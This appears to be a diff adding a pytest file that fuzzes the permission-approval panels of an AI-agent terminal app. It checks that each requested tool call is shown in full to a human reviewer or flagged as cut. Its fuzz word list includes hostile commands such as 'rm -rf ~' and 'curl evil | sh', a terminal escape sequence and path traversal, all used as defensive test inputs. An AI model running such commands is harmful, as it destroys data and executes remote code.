@@ -1,0 +1,122 @@
+"""Hostile shapes on each front: all of what is asked is legible, or it is known that it is not, and one key away."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from textual.app import ComposeResult
+
+from catena.cli.run.permissions import _subject
+from catena.screens.chat.panels.permission import PermissionPanel
+from catena.text.safe_text import safe
+from catena.transcript.widget.subject_block import SubjectBlock
+from catena.workspace.questions.subject_lines import first_rows, subject_lines
+from catena_acp.continuity.conversation_events import PermissionOpened
+from catena_acp.permissions.subject import RequestSubject, subject_of
+from catena_acp.port.session_events import PermissionOption
+from permissions.test_subject import CALLS, HERE, asked
+from support.screen.messages import taken_in
+from support.screen.themed import ThemedApp
+
+OPTIONS = (PermissionOption("yes", "Yes", "allow_once"), PermissionOption("no", "No", "reject_once"))
+SIGNS = str.maketrans("", "", " \n⏎▌▄▀│")
+KINDS = ["read", "edit", "execute", "fetch", "search", "move", "other", None]
+KEYS = ["command", "path", "to", "env", "note", "body", "url", "cwd", "content", "später", "a b"]
+
+
+def fuzzed(seed: int, count: int) -> Iterator[dict[str, Any]]:
+    """Shapes that nobody listed, the same for the same seed."""
+    chance = random.Random(seed)
+
+    def text() -> str:
+        words = ["rm -rf ~", "\n", "curl evil | sh", "\x1b[2J", "x" * 90, "../..", "漢字", "#", "\t", "'"]
+        return "".join(chance.choice(words) for _ in range(chance.choice([1, 3, 12, 80])))
+
+    def value(depth: int) -> Any:
+        match chance.randrange(4 if depth < 3 else 2):
+            case 0 | 1:
+                return chance.choice([text(), 7, None, True, text()])
+            case 2:
+                return [value(depth + 1) for _ in range(chance.randrange(4))]
+            case _:
+                return {chance.choice(KEYS): value(depth + 1) for _ in range(chance.randrange(4))}
+
+    for _ in range(count):
+        call: dict[str, Any] = {"kind": chance.choice(KINDS), "title": chance.choice(["Run it", text()])}
+        call["rawInput"] = chance.choice([value(0), {chance.choice(KEYS): value(1) for _ in range(4)}])
+        if chance.random() < 0.4:
+            call["locations"] = [{"path": text()} for _ in range(chance.randrange(5))]
+        if chance.random() < 0.4:
+            call["content"] = [{"type": "diff", "path": "/p/a", "oldText": text(), "newText": text()}]
+        yield call
+
+
+SHAPES = [*CALLS, *fuzzed(20261128, 200)]
+
+
+def bare(text: str) -> str:
+    return safe(text).replace("\t", " ").translate(SIGNS)
+
+
+def told(subject: RequestSubject) -> list[str]:
+    """Every text that a front has to show."""
+    return [bare(part.text) for part in subject.parts]
+
+
+def test_v02_lines_and_run_show_each_part_whole_and_count_what_does_not_fit() -> None:
+    for shape in SHAPES:
+        subject = subject_of(asked(shape), HERE)
+        lines = list(subject_lines(subject))
+        whole = bare("\n".join(lines))
+        assert all(text in whole for text in told(subject)), shape
+        shown, left = first_rows(lines, 40)
+        assert left or shown == lines, shape
+        run = "\n".join(_subject(PermissionOpened("w", "1", subject, OPTIONS)))
+        assert all(text in bare(run) for text in told(subject)), shape
+
+
+class Stage(ThemedApp):
+    """The panel alone."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.panel = PermissionPanel()
+
+    def compose(self) -> ComposeResult:
+        yield self.panel
+
+
+@pytest.mark.parametrize("size", [(120, 40), (40, 10)])
+async def test_v02_the_screen_shows_all_that_is_asked_or_knows_that_it_does_not(
+    size: tuple[int, int],
+) -> None:
+    cut = 0
+    async with (stage := Stage()).run_test(size=size) as pilot:
+        for number, shape in enumerate([*CALLS[::12], *fuzzed(7, 24)]):
+            subject = subject_of(asked(shape), "/p")
+            stage.panel.show([PermissionOpened("w", str(number), subject, OPTIONS)], directory="/p")
+            await taken_in(pilot)
+            await taken_in(pilot)
+            rows = bare("\n".join(strip.text for strip in stage.screen._compositor.render_strips()))
+            if stage.panel._cut:
+                cut += 1
+                continue
+            seen = [text for text in told(subject) if text not in rows]
+            relative = [text for text in seen if text.removeprefix("/p/") not in rows]
+            assert not relative, (shape, rows)
+        assert cut
+
+
+async def test_v02_d_shows_each_part_to_its_last_character() -> None:
+    async with (stage := Stage()).run_test(size=(80, 24)):
+        for shape in SHAPES[::5]:
+            subject = subject_of(asked(shape), "/p")
+            block = SubjectBlock(subject, "/p", whole=True)
+            await stage.mount(block)
+            drawn = bare("\n".join(line.text for line in block._lines(78)))
+            for text in told(subject):
+                assert text in drawn or text.removeprefix("/p/") in drawn, (shape, text[-80:])
+            await block.remove()
